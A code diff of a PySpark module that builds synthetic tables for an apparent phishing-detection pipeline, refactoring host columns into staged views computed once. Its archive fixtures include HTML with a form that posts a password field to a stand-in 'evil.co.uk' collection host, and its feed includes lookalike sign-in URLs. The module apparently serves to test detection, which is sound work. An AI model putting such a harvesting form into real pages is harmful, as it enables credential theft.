@@ -14,6 +14,7 @@ from pyspark.sql import DataFrame, SparkSession
 from pyspark.sql import functions as F
 
 from mimicry.config import DEFAULT_BRANDS
+from mimicry.session import computed_once
 
 BASE_TABLES = (
     "region", "nation", "customer", "supplier", "part", "orders", "lineitem", "events",
@@ -90,14 +91,26 @@ _ISSUER = (
 )
 _REGISTERED = "regexp_extract(fqdn, '([^.]+[.](co[.]uk|[a-z]+))$', 1)"
 
-# A third of the certificates name one and the same host.
+# Base tables with the hosts of a key, named ``<table>_hosts`` in the SQL below. A third of
+# the certificates name one and the same host.
+HOSTS = {
+    "orders_hosts": ("orders", {
+        "host": host_sql("o_custkey"),
+        "cert_host": host_sql("CASE WHEN o_orderkey % 3 = 0 THEN 2 ELSE o_custkey END"),
+    }),
+    "events_hosts": ("events", {"host": host_sql("user_id")}),
+    "customer_hosts": ("customer", {"host": host_sql("c_custkey")}),
+    "pages_hosts": (
+        "pages", {"host": host_sql("page_id"), "shared_host": host_sql("page_id % 50")}
+    ),
+}
+
 SQL = {
     "certificates": f"""
         SELECT o_orderkey AS arrival, md5(CAST(o_orderkey AS STRING)) AS cert_sha256,
                CAST(o_orderdate + (o_orderkey % 86400) * INTERVAL 1 SECOND AS TIMESTAMP) AS seen_at,
-               {_ISSUER} AS issuer_org, host, o_orderkey % 5 = 0 AS with_www
-        FROM (SELECT *, {host_sql("CASE WHEN o_orderkey % 3 = 0 THEN 2 ELSE o_custkey END")} AS host
-              FROM {{orders}}) hosts
+               {_ISSUER} AS issuer_org, cert_host AS host, o_orderkey % 5 = 0 AS with_www
+        FROM {{orders_hosts}}
     """,
     "messages": f"""
         SELECT o_orderkey AS line_no, CASE
@@ -122,20 +135,19 @@ SQL = {
                         ELSE '["z.example.com", "' || host || '"]' END
                 || '}}}}}}}}}}}}'
             END AS value
-        FROM (SELECT *, {host_sql("o_custkey")} AS host FROM {{orders}}) hosts
+        FROM {{orders_hosts}}
     """,
     "matches": f"""
         SELECT fqdn, brand, {_REGISTERED} AS registered_domain, score, score >= 0.7 AS is_alert,
                first_seen_at, user_id, first_value
-        FROM (SELECT *, {host_sql("user_id")} AS fqdn,
-                     (40 + least(60, CAST(floor(first_value) AS BIGINT))) / 100.0E0 AS score
-              FROM (SELECT user_id,
+        FROM (SELECT *, (40 + least(60, CAST(floor(first_value) AS BIGINT))) / 100.0E0 AS score
+              FROM (SELECT user_id, min(host) AS fqdn,
                            CASE event_type WHEN 'click' THEN 'paypal' WHEN 'view' THEN 'microsoft'
                                 WHEN 'purchase' THEN 'apple' WHEN 'signup' THEN 'netflix'
                                 ELSE 'amazon' END AS brand,
                            min_by(value, event_id) AS first_value,
                            CAST(min_by(ts, event_id) AS TIMESTAMP) AS first_seen_at
-                    FROM {{events}} GROUP BY user_id, event_type) firsts) m
+                    FROM {{events_hosts}} GROUP BY user_id, event_type) firsts) m
     """,
     "captures": f"""
         SELECT capture_id, fqdn, 'https://' || fqdn || '/' AS url, status, captured_at, duration_ms,
@@ -152,12 +164,12 @@ SQL = {
                status = 'ok' AND capture_id % 25 <> 1 AS has_signals,
                CASE WHEN capture_id % 10 = 9 THEN NULL WHEN capture_id % 2 = 0 THEN 'home'
                     ELSE 'cloud-north' END AS vantage
-        FROM (SELECT o_orderkey AS capture_id, o_custkey AS k, {host_sql("o_custkey")} AS fqdn,
+        FROM (SELECT o_orderkey AS capture_id, o_custkey AS k, host AS fqdn,
                      CASE WHEN o_orderstatus <> 'P' THEN 'ok'
                           ELSE {_pick("o_orderkey % 5", ("timeout", "dns_error", "connection_error", "blocked", "error"))} END AS status,
                      CAST(o_orderdate + (o_orderkey * 37 % 86400) * INTERVAL 1 SECOND AS TIMESTAMP) AS captured_at,
                      o_orderkey * 13 % 20000 AS duration_ms
-              FROM {{orders}}) visits
+              FROM {{orders_hosts}}) visits
     """,
     "verdicts": f"""
         SELECT capture_id * 10 + ln AS verdict_id, capture_id, fqdn,
@@ -174,15 +186,15 @@ SQL = {
                classified_at, 100 * q + d AS latency_ms, 10 * q AS prompt_tokens,
                CASE WHEN q % 5 = 0 THEN NULL ELSE q END AS completion_tokens,
                q / 1000.0E0 AS cost_usd, d = 10 OR d = 9 AS already_alerted
-        FROM (SELECT l_orderkey AS capture_id, CAST(l_linenumber AS BIGINT) AS ln, {{fqdn_of_order}} AS fqdn,
+        FROM (SELECT l_orderkey AS capture_id, CAST(l_linenumber AS BIGINT) AS ln, max(host) AS fqdn,
                      CAST(max(l_quantity) AS BIGINT) AS q, CAST(round(max(l_discount) * 100) AS BIGINT) AS d,
                      max(l_returnflag) AS flag,
                      CAST(max(l_shipdate) + max(l_linenumber) * INTERVAL 1 HOUR AS TIMESTAMP) AS classified_at
-              FROM {{lineitem}} JOIN {{orders}} ON l_orderkey = o_orderkey
-              GROUP BY l_orderkey, l_linenumber, o_custkey) v
-    """.replace("{fqdn_of_order}", "{" + "fqdn_of_order" + "}"),
+              FROM {{lineitem}} JOIN {{orders_hosts}} ON l_orderkey = o_orderkey
+              GROUP BY l_orderkey, l_linenumber) staged
+    """,
     "labelled": f"""
-        SELECT {host_sql("c_custkey")} AS fqdn,
+        SELECT host AS fqdn,
                CASE c_mktsegment WHEN 'BUILDING' THEN 'phishing' WHEN 'AUTOMOBILE' THEN 'parked'
                     WHEN 'MACHINERY' THEN 'legitimate' WHEN 'HOUSEHOLD' THEN 'unknown'
                     ELSE 'phishing' END AS expected,
@@ -192,7 +204,7 @@ SQL = {
                CASE WHEN c_custkey % 7 = 0 THEN 'seen twice' END AS note,
                CASE c_nationkey % 3 WHEN 0 THEN 'human' WHEN 1 THEN 'agent' END AS labelled_by,
                c_custkey
-        FROM {{customer}}
+        FROM {{customer_hosts}}
     """,
     "label_pairs": """
         SELECT CAST(l.doc_id AS STRING) AS fqdn, d.lang AS brand, d.source AS source,
@@ -205,8 +217,8 @@ SQL = {
         FROM {labels} l JOIN {documents} d ON l.doc_id = d.doc_id
     """,
     "feed": f"""
-        SELECT page_id, CASE WHEN page_id % 4 = 0 THEN 'https://' || {host_sql("page_id")} || '/signin?b=PayPal'
-                             WHEN page_id % 4 = 1 THEN 'HTTP://user@' || {host_sql("page_id % 50")} || ':8080/outlook/x'
+        SELECT page_id, CASE WHEN page_id % 4 = 0 THEN 'https://' || host || '/signin?b=PayPal'
+                             WHEN page_id % 4 = 1 THEN 'HTTP://user@' || shared_host || ':8080/outlook/x'
                              WHEN page_id % 40 = 2 THEN 'ftp://files.example.org/a'
                              WHEN page_id % 40 = 6 THEN '# comment'
                              WHEN page_id % 40 = 10 THEN 'not a url'
@@ -214,31 +226,35 @@ SQL = {
                              WHEN page_id % 40 = 18 THEN 'https://bad_host-.example.org/'
                              ELSE '  ' || url || ' ' END AS url,
                CAST(CAST(TIMESTAMP '2023-12-28 00:00:00' + (page_id % 30) * INTERVAL 24 HOUR AS DATE) AS DATE) AS labelled_at
-        FROM {{pages}}
+        FROM {{pages_hosts}}
     """,
     "archive": f"""
-        SELECT page_id, 'https://' || {host_sql("page_id")} || '/login' AS url,
+        SELECT page_id, 'https://' || host || '/login' AS url,
                html || CASE page_id % 6
                  WHEN 0 THEN '<form action="https://collect' || CAST(page_id % 9 AS STRING) || '.evil.co.uk/a"><input type="PASSWORD" name="x"></form><iframe src="a"></iframe>'
                  WHEN 1 THEN '<form action="/same"><input name="user_passwd_1"></form>'
-                 WHEN 2 THEN '<form action="//login.' || {host_sql("page_id")} || '/x"><input id="OTP"></form><form action="http://b.example.org/"></form><form action="http://a.b.example.org/"></form>'
+                 WHEN 2 THEN '<form action="//login.' || host || '/x"><input id="OTP"></form><form action="http://b.example.org/"></form><form action="http://a.b.example.org/"></form>'
                  WHEN 3 THEN '<iframe></iframe><IFRAME></IFRAME><input type=password>'
                  ELSE '' END AS html
-        FROM {{pages}}
+        FROM {{pages_hosts}}
     """,
 }
-_ORDER_HOST = host_sql("o_custkey")
 SOURCES = {
-    "certificates": ("orders",), "messages": ("orders",), "matches": ("events",),
-    "captures": ("orders",), "verdicts": ("lineitem", "orders"), "labelled": ("customer",),
-    "label_pairs": ("labels", "documents"), "feed": ("pages",), "archive": ("pages",),
+    "certificates": ("orders_hosts",), "messages": ("orders_hosts",),
+    "matches": ("events_hosts",), "captures": ("orders_hosts",),
+    "verdicts": ("lineitem", "orders_hosts"), "labelled": ("customer_hosts",),
+    "label_pairs": ("labels", "documents"), "feed": ("pages_hosts",), "archive": ("pages_hosts",),
 }
 
 
-def sql_for(name: str, **tables: str) -> str:
-    """The SQL of a logical table, its base tables named as given (or as themselves)."""
-    names = {t: tables.get(t, t) for t in SOURCES[name]}
-    return SQL[name].format(fqdn_of_order=f"max({_ORDER_HOST})", **names)
+def sql_for(name: str) -> str:
+    """The SQL of a logical table over the base tables as views."""
+    names = {t: t for t in SOURCES[name]}
+    for hosted in HOSTS.keys() & names.keys():
+        table, hosts = HOSTS[hosted]
+        columns = ", ".join(f"{expression} AS {column}" for column, expression in hosts.items())
+        names[hosted] = f"(SELECT *, {columns} FROM {table}) {hosted}"
+    return SQL[name].format(**names)
 
 
 class Tables:
@@ -251,10 +267,21 @@ class Tables:
     def base(self, name: str) -> DataFrame:
         return self.spark.read.parquet(f"{self.sf_dir}/{name}.parquet")
 
+    def source(self, name: str, given: DataFrame | None = None) -> DataFrame:
+        """A base table, or one with its staged hosts (each computed once per row)."""
+        if name not in HOSTS:
+            return self.base(name)
+        table, hosts = HOSTS[name]
+        rows = self.base(table) if given is None else given
+        return computed_once(rows, **{c: F.expr(text) for c, text in hosts.items()})
+
     def staged(self, name: str, **given: DataFrame) -> DataFrame:
-        bound = {t: given.get(t) or self.base(t) for t in SOURCES[name]}
-        text = SQL[name].replace("{fqdn_of_order}", f"max({_ORDER_HOST})")
-        return self.spark.sql(text, **bound)
+        """A logical table; ``given`` replaces base tables, by a stream for example."""
+        bound = {}
+        for source in SOURCES[name]:
+            table = HOSTS[source][0] if source in HOSTS else source
+            bound[source] = self.source(source, given.get(table))
+        return self.spark.sql(SQL[name], **bound)
 
     @cached_property
     def certificates(self) -> DataFrame:
@@ -262,7 +289,7 @@ class Tables:
 
     @cached_property
     def messages(self) -> DataFrame:
-        return self.staged("messages")
+        return computed_once(self.staged("messages"), value=F.col("value"))
 
     @cached_property
     def matches(self) -> DataFrame:
